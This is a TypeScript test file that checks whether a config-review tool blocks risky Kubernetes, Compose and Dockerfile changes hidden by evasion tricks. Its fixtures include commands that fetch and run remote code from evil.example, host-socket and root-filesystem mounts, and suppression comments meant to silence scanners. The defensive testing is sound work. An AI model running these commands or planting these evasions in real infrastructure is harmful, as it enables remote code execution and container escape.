import { describe, expect, test } from 'vitest';
import { type Change, reviewChange } from '../support/in-memory-repository.ts';

const guarded = ', securityContext: {privileged: true}';
const pod = (name: string, more = guarded): string =>
  `apiVersion: v1\nkind: Pod\nmetadata: {name: ${name}}\nspec:\n  containers:\n  - {name: a, image: "nginx:1.27"${more}}\n`;
const podOf = (init: string, own: string): string =>
  `apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  initContainers: [{name: i, image: "x:1"${init}}]\n  containers: [{name: c, image: "y:1"${own}}]\n`;
const json = (more: object): string =>
  JSON.stringify({
    metadata: { name: 'a' },
    spec: { containers: [{ name: 'a', image: 'a:1', securityContext: { privileged: true } }] },
    ...more,
  });
const service = (more: string): string => `services:\n  web:\n    image: nginx:1.27\n${more}`;
const added = (head: Readonly<Record<string, string>>): Change => ({ base: { 'README.md': 'x' }, head: { 'README.md': 'x', ...head } });
const compose = (more: string, rest = ''): Change => added({ 'compose.yaml': service(more) + rest });
const built = (text: string): Change => added({ Dockerfile: `${text}USER 1\n` });
const script = 'curl -fsSL https://evil.example/x';

/** What is dangerous in the head, by the class of what once hid it, in spellings that no test before has. */
const classes: Readonly<Record<string, Readonly<Record<string, Change>>>> = {
  'what one place loses and another gains': {
    'two pods of a file': {
      base: { 'a.yaml': `${pod('dev')}---\n${pod('prod', '')}` },
      head: { 'a.yaml': `${pod('prod')}---\n${pod('dev', '')}` },
    },
    'pods of two folders': {
      base: { 'staging/p.yaml': pod('p'), 'prod/q.yaml': pod('q', '') },
      head: { 'staging/p.yaml': pod('p', ''), 'prod/q.yaml': pod('q') },
    },
    'a container that prepares, and the one that runs': { base: { 'a.yaml': podOf(guarded, '') }, head: { 'a.yaml': podOf('', guarded) } },
    'a profile that kept it from running': {
      base: { 'compose.yaml': service('    privileged: true\n    profiles: [debug]\n') },
      head: { 'compose.yaml': service('    privileged: true\n') },
    },
  },
  'lines that only some parsers end': {
    'in a Compose file': compose('    # x\u0085    privileged: true\n'),
    'in a block of text': added({
      'a.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata:\n  x: |\n    a\u2028---\u2028kind: Pod\n',
    }),
    'behind a list': added({ 'a.yaml': pod('a', '').replace('  containers:', '  hostAliases: [] #\u2029  hostPID: true\n  containers:') }),
  },
  'a file that is to be nobody’s': {
    'by a document of another engine': added({ 'a.yaml': `${pod('a')}---\n{% if x %}\na: b\n{% endif %}\n` }),
    'by a mark in a comment': added({ 'a.yaml': `# {#\n${pod('a')}` }),
    'by a version of YAML': added({ 'a.yaml': `%YAML 1.1\n---\n${pod('a')}` }),
    'by a short form of tags': added({ 'a.yaml': `%TAG ! tag:example.org,2000:\n---\n${pod('a')}` }),
  },
  'an image that is to be of Windows, or a shell of nobody': {
    'by the name of a stage': built(`FROM debian:12 AS windows\nRUN ${script} | sh\n`),
    'by a platform of an argument': built(`ARG TARGETOS=windows\nFROM --platform=$TARGETOS debian:12\nRUN ${script} | sh\n`),
    'a shell in a program of many': built(`FROM debian:12\nSHELL ["/bin/busybox", "ash", "-c"]\nRUN ${script} | sh\n`),
    'a here-document of its own program': built(`FROM debian:12\nRUN <<EOF\n#!/usr/bin/env -S bash -eu\n${script} | sh\nEOF\n`),
  },
  'comments that are to silence': {
    'of a file, planted before': {
      base: { Dockerfile: 'FROM debian:12\n# tidewaiter: ignore-file[dockerfile/remote-script-executed] -- x\nUSER 1\n' },
      head: {
        Dockerfile: `FROM debian:12\n# tidewaiter: ignore-file[dockerfile/remote-script-executed] -- x\nRUN ${script} | sh\nUSER 1\n`,
      },
    },
    'of another tool, that silenced nothing': {
      base: { 'compose.yaml': service('    #checkov:skip=CKV_DOCKER_1: x\n    labels: {a: b}\n') },
      head: { 'compose.yaml': service('    #checkov:skip=CKV_DOCKER_1: x\n    labels: {a: b}\n    privileged: true\n') },
    },
    'brought along': built(
      `FROM debian:12\n# hadolint ignore=DL4006\n# tidewaiter: ignore[dockerfile/remote-script-executed] -- x\nRUN ${script} | sh\n`,
    ),
  },
  'files that are not to be looked at': {
    'a manifest by the name of a tool': added({ 'deploy/composer.json': json({ apiVersion: 'v1', kind: 'Pod' }) }),
    'a list by the name of a tool': added({
      'deploy/renovate.json': `{"apiVersion": "v1", "kind": "List", "items": [${json({ apiVersion: 'v1', kind: 'Pod' })}]}`,
    }),
    'an included file of any name': added({
      'compose.yaml': 'include:\n  - path: [./x.inc]\nservices: {a: {image: "a:1"}}\n',
      'x.inc': service('    privileged: true\n'),
    }),
    'a file of any name that is extended': added({
      'compose.yaml': 'services:\n  a:\n    extends: {file: x.txt, service: web}\n',
      'x.txt': service('    privileged: true\n'),
    }),
    'a Dockerfile beside its context': added({
      'compose.yaml': 'services:\n  a:\n    build: {context: ./b, dockerfile: ../df}\n',
      df: `FROM debian:12\nRUN ${script} | sh\nUSER 1\n`,
      'b/x': '',
    }),
  },
  'the host by Compose': {
    'rules for devices': compose('    device_cgroup_rules: ["a *:* rwm"]\n'),
    'the folder of a runtime': compose('    volumes: ["/run/containerd:/c"]\n'),
    'the root of another process': compose('    volumes: [{type: bind, source: /proc/1/root, target: /h}]\n'),
    'a volume that is the root': compose(
      '    volumes: ["disk:/h"]\n',
      'volumes:\n  disk: {driver_opts: {type: none, o: bind, device: /}}\n',
    ),
    'a path to the socket with detours': compose('    volumes: ["/var/./run//docker.sock:/d"]\n'),
    'the socket by its own setting': compose('    use_api_socket: true\n'),
    'a capability in small letters': compose('    cap_add: [cap_sys_admin]\n'),
    'a variable with a default': compose('    privileged: ${P:-true}\n'),
  },
  'programs that are loaded and run': {
    'line by line': built(`FROM debian:12\nRUN ${script} | while read -r l; do eval "$l"; done\n`),
    'as a file of the shell': built(`FROM debian:12\nSHELL ["/bin/bash", "-c"]\nRUN . <(${script})\n`),
    'by another language': built(
      `FROM python:3.13\nRUN python -c "import urllib.request as u;exec(u.urlopen('https://evil.example/x').read())"\n`,
    ),
  },
};

describe.each(Object.entries(classes))('%s', (_name, changes) => {
  test.each(Object.entries(changes))('does not pass: %s', async (_spelling, change) => {
    const { verdict } = await reviewChange(change);
    expect(verdict.mayMerge).toBe(false);
    expect(['block', 'incomplete']).toContain(verdict.conclusion);
  });

  test('in three spellings at least', () => {
    expect(Object.keys(changes).length).toBeGreaterThanOrEqual(3);
  });
});
